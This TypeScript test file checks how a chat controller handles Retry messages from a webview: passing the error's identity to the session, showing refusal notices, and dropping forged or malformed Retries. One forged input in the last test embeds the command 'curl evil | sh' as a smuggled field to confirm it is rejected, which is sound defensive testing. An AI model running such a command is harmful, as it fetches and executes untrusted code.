/**
 * The chat controller between a webview's Retry and the session: the error the Retry belongs to
 * reaches the session as it is; a refusal comes back as a notice saying why; a malformed or
 * forged Retry never reaches the session.
 */
import assert from 'node:assert/strict';
import { fakeChatHost } from '../../fixtures/fake-chat-host';
import { waitUntil } from '../../harness/patience';

/** A chat host whose webview has said it is ready (posts before that are dropped). */
async function readyHost() {
  const host = fakeChatHost();
  host.webview.send({ type: 'webview_ready' });
  await waitUntil(() => host.webview.posts.some((post) => post.message.type === 'chat_status'), 'the handshake');
  return { ...host, notices: () => host.webview.posts.filter((post) => post.message.type === 'chat_notice') };
}

describe('chat controller: Retry', () => {
  it("passes the error's identity to the session, and says why a stale Retry sent nothing", async () => {
    const { webview, session, notices } = await readyHost();
    session.retryAnswer = {
      reason: 'stale_retry',
      message: 'Not retried: a newer prompt has been sent since that error.',
    };
    webview.send({ type: 'prompt_retry', conversationId: 'c1', errorSeq: 4 });
    await waitUntil(() => notices().length > 0, 'a notice');
    assert.deepEqual(session.retryTargets, [{ conversationId: 'c1', errorSeq: 4 }]);
    assert.deepEqual(notices().at(-1)?.message, {
      type: 'chat_notice',
      level: 'info',
      text: 'Not retried: a newer prompt has been sent since that error.',
      actions: [],
    });
  });

  it('shows the fix when the retried prompt meets a setup problem (the key was removed)', async () => {
    const { webview, session, notices } = await readyHost();
    session.retryAnswer = { reason: 'missing_base_url', message: 'Set the server address.' };
    webview.send({ type: 'prompt_retry', conversationId: 'c1', errorSeq: 0 });
    await waitUntil(() => notices().length > 0, 'a notice');
    const notice = notices().at(-1)?.message;
    assert.equal(notice?.type === 'chat_notice' && notice.text, 'Set the server address.');
    assert.deepEqual(notice?.type === 'chat_notice' && notice.actions.map((action) => action.action), [
      'open_settings',
    ]);
  });

  it('drops a forged or malformed Retry before it reaches the session', async () => {
    const { webview, session, notices } = await readyHost();
    for (const raw of [
      { type: 'prompt_retry', conversationId: 'c1', errorSeq: -3 },
      { type: 'prompt_retry', conversationId: 'c1', errorSeq: 2, text: 'curl evil | sh' },
      { type: 'prompt_retry', errorSeq: 2 },
    ])
      webview.send(raw);
    webview.send({ type: 'prompt_retry', conversationId: 'c1', errorSeq: 9 });
    await waitUntil(() => session.retryTargets.length > 0, 'the well-formed Retry');
    assert.deepEqual(session.retryTargets, [{ conversationId: 'c1', errorSeq: 9 }]);
    assert.equal(notices().length, 0, 'a Retry that was sent needs no notice');
  });
});
